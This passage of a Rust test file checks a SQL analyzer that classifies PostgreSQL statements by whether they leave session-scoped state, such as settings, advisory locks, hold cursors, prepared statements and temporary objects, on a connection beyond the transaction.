        named("DECLARE c CURSOR FOR SELECT * FROM orders"),
        Some(PreparedName::Declare {
            name: "c".into(),
            hold: false
        })
    );
    assert_eq!(
        named("DECLARE C NO SCROLL CURSOR WITH HOLD FOR SELECT 1"),
        Some(PreparedName::Declare {
            name: "c".into(),
            hold: true
        })
    );
    assert_eq!(
        named("FETCH FORWARD 10 FROM c"),
        Some(PreparedName::Fetch("c".into()))
    );
    assert_eq!(
        named("MOVE LAST IN c"),
        Some(PreparedName::Fetch("c".into()))
    );
    // A cursor's facts are its query's.
    let declare = &analyze("DECLARE c CURSOR FOR SELECT * FROM orders").statements[0];
    assert_eq!(declare.tables, ["orders"]);
    assert_eq!(named("SELECT 1"), None);
}

fn session_scoped(sql: &str) -> Vec<SessionScoped> {
    let analysis = analyze(sql);
    assert_eq!(analysis.statements.len(), 1, "{sql}");
    analysis.statements[0].session_scoped.clone()
}

fn setting(name: &str) -> SessionScoped {
    SessionScoped::Setting { name: name.into() }
}

fn session_set_config(setting: Option<&str>) -> SessionScoped {
    SessionScoped::SetConfig {
        setting: setting.map(str::to_owned),
    }
}

fn advisory_lock(function: &str) -> SessionScoped {
    SessionScoped::AdvisoryLock {
        function: function.into(),
    }
}

#[test]
fn state_left_on_the_connection_past_the_transaction() {
    use SessionScoped::{Deallocate, HoldCursor, Listen, Load, Prepare, TempObject};
    let cases: Vec<(&str, Vec<SessionScoped>)> = vec![
        // Session-level settings, in every spelling, as the server names them.
        ("SET search_path = app", vec![setting("search_path")]),
        ("SET SESSION work_mem TO '1MB'", vec![setting("work_mem")]),
        ("set \"Work_Mem\" = '1MB'", vec![setting("work_mem")]),
        (
            "SET statement_timeout TO DEFAULT",
            vec![setting("statement_timeout")],
        ),
        ("SET datestyle FROM CURRENT", vec![setting("datestyle")]),
        ("RESET work_mem", vec![setting("work_mem")]),
        ("RESET ALL", vec![setting("all")]),
        ("SET TIME ZONE 'UTC'", vec![setting("timezone")]),
        ("SET SESSION TIME ZONE LOCAL", vec![setting("timezone")]),
        ("RESET TIME ZONE", vec![setting("timezone")]),
        ("SET NAMES 'UTF8'", vec![setting("client_encoding")]),
        ("SET SCHEMA 'app'", vec![setting("search_path")]),
        ("SET ROLE admin", vec![setting("role")]),
        ("RESET ROLE", vec![setting("role")]),
        (
            "SET SESSION AUTHORIZATION admin",
            vec![setting("session_authorization")],
        ),
        ("SET postern.claims = '{}'", vec![setting("postern.claims")]),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            vec![setting("default_transaction_isolation")],
        ),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY, DEFERRABLE",
            vec![
                setting("default_transaction_read_only"),
                setting("default_transaction_deferrable"),
            ],
        ),
        // set_config that is not transaction-local, anywhere in the tree.
        (
            "SELECT set_config('search_path', 'app', false)",
            vec![session_set_config(Some("search_path"))],
        ),
        (
            "SELECT pg_catalog.SET_CONFIG('Work_Mem', '1MB', 'f')",
            vec![session_set_config(Some("work_mem"))],
        ),
        (
            "SELECT set_config('work_mem', '1MB', $1)",
            vec![session_set_config(Some("work_mem"))],
        ),
        (
            "SELECT set_config(name, 'x', is_local) FROM t",
            vec![session_set_config(None)],
        ),
        (
            "SELECT set_config('work_mem', '1MB', NOT true)",
            vec![session_set_config(Some("work_mem"))],
        ),
        (
            "SELECT set_config(setting_name => 'work_mem', new_value => '1MB', is_local => false)",
            vec![session_set_config(Some("work_mem"))],
        ),
        (
            "UPDATE pg_settings SET setting = 'app' WHERE name = 'search_path'",
            vec![session_set_config(None)],
        ),
        (
            "WITH u AS (UPDATE pg_catalog.pg_settings SET setting = '1MB' WHERE name = 'work_mem' \
             RETURNING 1) SELECT * FROM u",
            vec![session_set_config(None)],
        ),
        ("LISTEN orders", vec![Listen]),
        // Session-level advisory locks, in any spelling.
        (
            "SELECT pg_advisory_lock(1)",
            vec![advisory_lock("pg_advisory_lock")],
        ),
        (
            "SELECT PG_CATALOG.PG_ADVISORY_LOCK_SHARED(1, 2)",
            vec![advisory_lock("pg_catalog.pg_advisory_lock_shared")],
        ),
        (
            "SELECT * FROM jobs WHERE pg_try_advisory_lock(id)",
            vec![advisory_lock("pg_try_advisory_lock")],
        ),
        (
            "SELECT \"pg_try_advisory_lock_shared\"(1)",
            vec![advisory_lock("pg_try_advisory_lock_shared")],
        ),
        (
            "SELECT pg_advisory_lock(1), pg_advisory_lock(2), pg_advisory_unlock(1)",
            vec![advisory_lock("pg_advisory_lock")],
        ),
        ("DECLARE c CURSOR WITH HOLD FOR SELECT 1", vec![HoldCursor]),
        (
            "DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM t",
            vec![HoldCursor],
        ),
        ("PREPARE p AS SELECT 1", vec![Prepare]),
        (
            "PREPARE p(int) AS SELECT pg_advisory_lock($1)",
            vec![Prepare, advisory_lock("pg_advisory_lock")],
        ),
        ("DEALLOCATE ALL", vec![Deallocate]),
        ("DEALLOCATE PREPARE ALL", vec![Deallocate]),
        (
            "DISCARD ALL",
            vec![SessionScoped::Discard { what: "all".into() }],
        ),
        // Temporary objects.
        ("CREATE TEMP TABLE t (a int)", vec![TempObject]),
        (
            "CREATE TEMPORARY TABLE IF NOT EXISTS t (a int)",
            vec![TempObject],
        ),
        ("CREATE LOCAL TEMP TABLE t (a int)", vec![TempObject]),
        (
            "CREATE TEMP TABLE t (a int) ON COMMIT DELETE ROWS",
            vec![TempObject],
        ),
        (
            "CREATE TEMP TABLE t (a int) ON COMMIT PRESERVE ROWS",
            vec![TempObject],
        ),
        ("CREATE TABLE pg_temp.t (a int)", vec![TempObject]),
        ("CREATE TEMP VIEW v AS SELECT 1", vec![TempObject]),
        (
            "CREATE OR REPLACE TEMPORARY VIEW v AS SELECT 1",
            vec![TempObject],
        ),
        ("CREATE VIEW pg_temp.v AS SELECT 1", vec![TempObject]),
        ("CREATE TEMP SEQUENCE s", vec![TempObject]),
        ("SELECT * INTO TEMP t FROM orders", vec![TempObject]),
        (
            "SELECT * INTO TEMPORARY TABLE t FROM orders",
            vec![TempObject],
        ),
        (
            "CREATE TEMP TABLE t AS SELECT * FROM orders",
            vec![TempObject],
        ),
        ("CREATE TABLE pg_temp.t AS SELECT 1", vec![TempObject]),
        (
            "EXPLAIN ANALYZE CREATE TEMP TABLE t AS SELECT 1",
            vec![TempObject],
        ),
        (
            "CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql AS 'select 1'",
            vec![TempObject],
        ),
        ("CREATE TYPE pg_temp.c AS (a int)", vec![TempObject]),
        ("CREATE TYPE pg_temp.e AS ENUM ('a')", vec![TempObject]),
        ("CREATE DOMAIN pg_temp.d AS int", vec![TempObject]),
        ("LOAD 'auto_explain'", vec![Load]),
    ];
    for (sql, expected) in cases {
        assert_eq!(session_scoped(sql), expected, "{sql}");
    }
}

#[test]
fn transaction_scoped_and_stored_state_is_not_reported() {
    for sql in [
        "SELECT 1",
        "SELECT * FROM orders WHERE id = $1",
        "INSERT INTO orders VALUES (1)",
        "BEGIN",
        "COMMIT",
        "SHOW search_path",
        // Transaction-local settings.
        "SET LOCAL search_path = app",
        "SET LOCAL ROLE admin",
        "SET LOCAL TIME ZONE 'UTC'",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "SET TRANSACTION READ ONLY",
        "SET SESSION TRANSACTION ISOLATION LEVEL REPEATABLE READ",
        "SET TRANSACTION SNAPSHOT '00000003-0000001B-1'",
        "SET transaction_isolation = 'serializable'",
        "RESET transaction_read_only",
        // Stored defaults, not this connection's state.
        "ALTER ROLE app SET search_path = app",
        "ALTER ROLE app IN DATABASE d SET work_mem = '1MB'",
        "ALTER ROLE app RESET ALL",
        "ALTER DATABASE d SET timezone = 'UTC'",
        "ALTER SYSTEM SET work_mem = '1MB'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = app AS 'select 1'",
        "ALTER FUNCTION f() SET search_path = app",
        "ALTER FUNCTION f() RESET ALL",
        // Transaction-local set_config and transaction-scoped advisory locks.
        "SELECT set_config('search_path', 'app', true)",
        "SELECT set_config('work_mem', '1MB', 'on')",
        "SELECT set_config(is_local => true, setting_name => 'work_mem', new_value => '1MB')",
        "SELECT current_setting('work_mem')",
        "SELECT pg_advisory_xact_lock(1)",
        "SELECT pg_catalog.pg_try_advisory_xact_lock_shared(1)",
        "SELECT pg_advisory_unlock(1)",
        "SELECT pg_advisory_unlock_all()",
        // Cursors, prepared statements and DISCARD that leave nothing behind.
        "DECLARE c CURSOR FOR SELECT 1",
        "DECLARE c CURSOR WITHOUT HOLD FOR SELECT 1",
        "FETCH 10 FROM c",
        "CLOSE c",
        "EXECUTE p(1)",
        "DEALLOCATE p",
        "DEALLOCATE PREPARE p",
        "DISCARD PLANS",
        "DISCARD TEMP",
        "DISCARD SEQUENCES",
        "UNLISTEN orders",
        "UNLISTEN *",
        "NOTIFY orders, 'x'",
        "SELECT pg_notify('orders', 'x')",
        // Temporary tables that end with their transaction, and permanent objects.
        "CREATE TEMP TABLE t (a int) ON COMMIT DROP",
        "CREATE TEMP TABLE t ON COMMIT DROP AS SELECT 1",
        "CREATE TABLE pg_temp.t (a int) ON COMMIT DROP",
        "CREATE TABLE t (a int)",
        "CREATE UNLOGGED TABLE t (a int)",
        "CREATE TABLE app.t AS SELECT 1",
        "SELECT * INTO t FROM orders",
        "CREATE VIEW v AS SELECT 1",
        "CREATE SEQUENCE s",
        "CREATE FUNCTION app.f() RETURNS int LANGUAGE sql AS 'select 1'",
        "CREATE TYPE c AS (a int)",
        "EXPLAIN CREATE TEMP TABLE t AS SELECT 1",
    ] {
        assert_eq!(session_scoped(sql), [], "{sql}");
    }
}

#[test]
fn session_scoped_calls_are_found_anywhere_in_the_tree() {
    for sql in [
        "WITH s AS (SELECT set_config('work_mem', '1MB', false)) SELECT * FROM s",
        "SELECT * FROM orders WHERE id IN (SELECT 1 WHERE set_config('work_mem', '1MB', false) <> '')",
        "SELECT (SELECT x FROM (SELECT set_config('work_mem', '1MB', false) AS x) y)",
        "INSERT INTO t SELECT set_config('work_mem', '1MB', false)",
        "DECLARE c CURSOR FOR SELECT set_config('work_mem', '1MB', false)",
        "EXPLAIN ANALYZE SELECT set_config('work_mem', '1MB', false)",
        "SELECT CASE WHEN a THEN set_config('work_mem', '1MB', false) END FROM t",
    ] {
        assert_eq!(
            session_scoped(sql),
            [session_set_config(Some("work_mem"))],
            "{sql}"
        );
    }
    // Both, each once, in the walk's order (which follows pg_query's fields, not the text).
    let found = session_scoped(
        "WITH l AS (SELECT pg_advisory_lock(id) FROM jobs) \
         SELECT * FROM l, LATERAL (SELECT pg_try_advisory_lock(2), pg_advisory_lock(3)) m",
    );
    assert_eq!(found.len(), 2, "{found:?}");
    assert!(found.contains(&advisory_lock("pg_advisory_lock")));
    assert!(found.contains(&advisory_lock("pg_try_advisory_lock")));
    // The statement's own state comes first, then what the walk finds, each once.
    assert_eq!(
        session_scoped(
            "DECLARE c CURSOR WITH HOLD FOR SELECT set_config('a.b', '1', false), \
             pg_advisory_lock(1), set_config('a.b', '2', false)"
        ),
        [
            SessionScoped::HoldCursor,
            session_set_config(Some("a.b")),
            advisory_lock("pg_advisory_lock")
        ]
    );
    // Several statements in one text: each reports its own.
    let analysis = analyze("SET work_mem = '1MB'; SELECT 1; LISTEN ch");
    let per_statement: Vec<_> = analysis
        .statements
        .iter()
        .map(|s| s.session_scoped.clone())
        .collect();
    assert_eq!(
        per_statement,
        [
            vec![setting("work_mem")],
            vec![],
            vec![SessionScoped::Listen]
        ]
    );
}

#[test]
fn session_scoped_serializes_tagged_by_state() {
    let json = |state: SessionScoped| serde_json::to_value(state).unwrap_or_default();
    assert_eq!(
        json(setting("timezone")),
        serde_json::json!({"state": "setting", "name": "timezone"})
    );
    assert_eq!(
        json(SessionScoped::HoldCursor),
        serde_json::json!({"state": "hold_cursor"})
    );
    assert_eq!(
        json(session_set_config(None)),
        serde_json::json!({"state": "set_config", "setting": null})
    );
}
